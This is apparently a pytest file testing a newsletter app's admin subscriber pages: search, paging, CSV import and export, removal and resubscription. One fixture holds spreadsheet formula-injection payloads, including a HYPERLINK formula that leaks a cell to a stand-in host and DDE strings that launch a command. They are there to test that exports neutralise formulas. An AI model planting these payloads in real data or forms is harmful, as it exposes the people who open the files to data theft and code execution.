"""Admin subscriber pages: search, filters, keyset pages, import, export, remove, re-invite."""

from __future__ import annotations

import codecs
import csv
import io
import re

import pytest
from sqlalchemy import select

from digest import audience
from digest.extensions import db
from digest.models import Subscriber, SubscriberStatus, Subscription, SubscriptionStatus
from tests.support.factories import make_newsletter, make_subscribers
from tests.web.conftest import YES


@pytest.fixture
def admin(app, client, sign_in):
    sign_in("admin")
    app.config["WTF_CSRF_ENABLED"] = False
    return client


def emails_on(page: str) -> list[str]:
    return re.findall(r'<td class="wrap-anywhere card-title">(reader\d+@example\.org)', page)


def test_search_finds_by_address_and_by_name(admin):
    letter = make_newsletter()
    make_subscribers(letter, 30)
    by_address = admin.get("/admin/subscribers?q=reader17@").get_data(as_text=True)
    assert set(emails_on(by_address)) == {"reader17@example.org"}
    by_name = admin.get("/admin/subscribers?q=READER 2").get_data(as_text=True)
    assert set(emails_on(by_name)) == {"reader2@example.org"} | {
        f"reader{n}@example.org" for n in range(20, 30)
    }


def test_filters_by_newsletter_and_status(admin):
    city, county = make_newsletter(), make_newsletter("county", "County")
    make_subscribers(city, 3)
    audience.unsubscribe(audience.subscribe(county, "reader1@example.org", is_confirmed=True))
    db.session.commit()
    page = admin.get(f"/admin/subscribers?newsletter={county.id}&status=unsubscribed")
    assert emails_on(page.get_data(as_text=True)) == ["reader1@example.org"]
    page = admin.get(f"/admin/subscribers?newsletter={city.id}&status=unsubscribed")
    assert emails_on(page.get_data(as_text=True)) == []


def test_pages_walk_every_subscriber_once_in_address_order(admin):
    make_subscribers(make_newsletter(), 120)
    seen, url = [], "/admin/subscribers?q=reader"
    while url:
        page = admin.get(url).get_data(as_text=True)
        seen += emails_on(page)
        found = re.search(r'href="([^"]+)" rel="next"', page)
        url = found and found.group(1).replace("&amp;", "&")
    assert len(seen) == 120 and seen == sorted(seen) and len(set(seen)) == 120


def test_an_import_reports_each_rejected_line(admin):
    letter = make_newsletter()
    csv_text = "email,name\nann@example.org,Ann\nnot-an-address,Bob\ncid@example.org,Cid\n"
    data = {"newsletter": str(letter.id), "file": (io.BytesIO(csv_text.encode()), "list.csv")}
    response = admin.post(
        "/admin/subscribers/import", data=data, content_type="multipart/form-data"
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "2 added to City Digest, 0 already there, 1 rejected" in page
    assert re.search(r"<li>line 3: not an email address: &#39;not-an-address&#39;", page)


def test_an_import_names_each_line_imported_without_a_topic_not_offered(admin):
    letter = make_newsletter(topic_choices=["Ferries"])
    csv_text = "email,topics\nann@example.org,Ferries;Weather\n"
    data = {"newsletter": str(letter.id), "file": (io.BytesIO(csv_text.encode()), "list.csv")}
    response = admin.post(
        "/admin/subscribers/import", data=data, content_type="multipart/form-data"
    )
    page = response.get_data(as_text=True)
    assert "1 added to City Digest, 0 already there</h2>" in page
    assert "<li>line 2: topic &#39;Weather&#39; is not offered by City Digest" in page


def test_the_export_streams_every_matching_row_as_csv(admin):
    make_subscribers(make_newsletter(), 1200)
    response = admin.get("/admin/subscribers.csv")
    assert response.is_streamed and response.mimetype == "text/csv"
    lines = response.get_data(as_text=True).splitlines()
    assert lines[0] == "email,name,newsletter,status,topics,subscribed_at"
    assert len(lines) == 1201 and lines[1].startswith(
        "reader0@example.org,Reader 0,City Digest,active"
    )


def test_a_removed_address_stays_suppressed_when_imported_again(admin):
    letter = make_newsletter()
    make_subscribers(letter, 1)
    subscriber_id = db.session.scalar(select(Subscriber.id))
    assert admin.post(f"/admin/subscribers/{subscriber_id}/remove", data=YES).status_code == 302
    report = audience.import_csv(letter, io.StringIO("email\nreader0@example.org\n"), False)
    db.session.commit()
    assert report.existing == 1
    subscription = db.session.scalar(select(Subscription))
    assert subscription.status is SubscriptionStatus.UNSUBSCRIBED
    assert subscription.subscriber.name is None


def test_an_unsubscribed_address_comes_back_only_through_a_new_confirmation(admin, smtp_server):
    letter = make_newsletter()
    subscription = audience.subscribe(letter, "gone@example.org", is_confirmed=True)
    audience.unsubscribe(subscription)
    db.session.commit()
    response = admin.post(f"/admin/subscriptions/{subscription.id}/resubscribe")
    assert response.status_code == 302
    db.session.expire_all()
    subscription = db.session.get(Subscription, subscription.id)
    assert subscription.status is SubscriptionStatus.PENDING  # not mailed digests yet
    body = smtp_server.wait_for(1)[-1].text
    link = re.search(r"http://digest\.test(/confirm/\S+)", body).group(1)
    confirm(admin, link)
    db.session.expire_all()
    assert db.session.get(Subscription, subscription.id).status is SubscriptionStatus.ACTIVE


def test_a_bounced_address_is_deliverable_again_once_it_confirms(admin, smtp_server):
    subscription = audience.subscribe(make_newsletter(), "full@example.org", is_confirmed=True)
    subscription.subscriber.status = SubscriberStatus.BOUNCED
    db.session.commit()
    admin.post(f"/admin/subscriptions/{subscription.id}/resubscribe")
    body = smtp_server.wait_for(1)[-1].text
    confirm(admin, re.search(r"http://digest\.test(/confirm/\S+)", body).group(1))
    db.session.expire_all()
    assert db.session.get(Subscriber, subscription.subscriber_id).status is SubscriberStatus.OK


def test_a_second_confirmation_within_a_day_is_refused(admin, smtp_server):
    subscription = audience.subscribe(make_newsletter(), "gone@example.org", is_confirmed=True)
    audience.unsubscribe(subscription)
    db.session.commit()
    admin.post(f"/admin/subscriptions/{subscription.id}/resubscribe")
    smtp_server.wait_for(1)
    audience.unsubscribe(db.session.get(Subscription, subscription.id))
    db.session.commit()
    response = admin.post(f"/admin/subscriptions/{subscription.id}/resubscribe")
    page = admin.get(response.headers["Location"]).get_data(as_text=True)
    assert "less than a day ago" in page


def confirm(client, link: str) -> None:
    """Press the button on the confirmation page (GET only shows it)."""
    page = client.get(link).get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
    data = {"csrf_token": token.group(1)} if token else {}
    assert client.post(link, data=data).status_code in (200, 302)


FORMULAS = {  # what anonymous visitors typed in the subscribe form: address, name
    "=2+5@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd@example.org": "+cmd|' /C calc'!A0",
    "-sum@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plain@example.org": "-2+3",
}


def subscribe_as_visitors(app, addresses: dict[str, str]) -> None:
    visitor = app.test_client()
    for email, name in addresses.items():
        answer = visitor.post("/subscribe/city", data={"email": email, "name": name})
        assert answer.status_code == 200


def test_the_export_writes_what_visitors_typed_as_text_never_as_a_formula(app, admin):
    make_newsletter()
    subscribe_as_visitors(app, FORMULAS)
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/subscribers.csv").get_data(True))))
    cells = {(row["email"], row["name"]) for row in rows}
    assert cells == {
        ("'=2+5@example.com", "'" + FORMULAS["=2+5@example.com"]),
        ("'+cmd@example.org", "'" + FORMULAS["+cmd@example.org"]),
        ("'-sum@example.org", "'" + FORMULAS["-sum@example.org"]),
        ("plain@example.org", "'-2+3"),
    }


def test_an_export_imports_back_as_it_was_typed(app, admin):
    make_newsletter()
    county = make_newsletter("county", "County")
    subscribe_as_visitors(app, FORMULAS)
    exported = admin.get("/admin/subscribers.csv").get_data()
    data = {"newsletter": str(county.id), "file": (io.BytesIO(exported), "export.csv")}
    page = admin.post("/admin/subscribers/import", data=data, content_type="multipart/form-data")
    assert "4 added to County, 0 already there" in page.get_data(as_text=True)
    names = db.session.execute(select(Subscriber.email, Subscriber.name)).all()
    assert dict(names) == FORMULAS


def chosen_newsletter(page: str, field: str = "newsletter") -> str | None:
    """The label of the selected option of a newsletter select, or None."""
    select = re.search(rf'<select[^>]*name="{field}".*?</select>', page, re.S).group(0)
    found = re.search(r"<option selected[^>]*>([^<]*)</option>", select)
    return found and found.group(1)


def test_the_import_form_chooses_no_newsletter_by_itself(admin):
    make_newsletter("alpha", "Alpha")  # the alphabetically first
    make_newsletter()
    page = admin.get("/admin/subscribers/import").get_data(as_text=True)
    assert chosen_newsletter(page) == "Choose a newsletter"
    data = {"file": (io.BytesIO(b"email\nann@example.org\n"), "list.csv")}
    response = admin.post(
        "/admin/subscribers/import", data=data, content_type="multipart/form-data"
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Choose a newsletter." in page and "Choose a CSV file." not in page
    assert db.session.scalars(select(Subscription)).first() is None


def test_the_import_form_opened_from_a_newsletter_has_it_chosen(admin):
    make_newsletter("alpha", "Alpha")
    city = make_newsletter()
    for key in ("city", str(city.id)):
        page = admin.get(f"/admin/subscribers/import?newsletter={key}").get_data(as_text=True)
        assert chosen_newsletter(page) == "City Digest"
    listing = admin.get(f"/admin/subscribers?newsletter={city.id}").get_data(as_text=True)
    link = re.search(r'href="([^"]*/subscribers/import[^"]*)"', listing).group(1)
    page = admin.get(link.replace("&amp;", "&")).get_data(as_text=True)
    assert chosen_newsletter(page) == "City Digest"


def test_an_excel_upload_reports_a_misquoted_line_and_imports_the_rest(admin):
    letter = make_newsletter()
    text = (
        'email;name\r\nann@example.org;"Smith; Ann"\r\nbob@example.org;"Bob\r\n'
        "cid@example.org;Cid\r\n"
    )
    excel_bytes = codecs.BOM_UTF8 + text.encode()
    data = {"newsletter": str(letter.id), "file": (io.BytesIO(excel_bytes), "excel.csv")}
    response = admin.post(
        "/admin/subscribers/import", data=data, content_type="multipart/form-data"
    )
    page = response.get_data(as_text=True)
    assert "2 added to City Digest, 0 already there, 1 rejected" in page
    assert re.search(r"<li>line 3: unreadable row \(a quote opened on this line never", page)
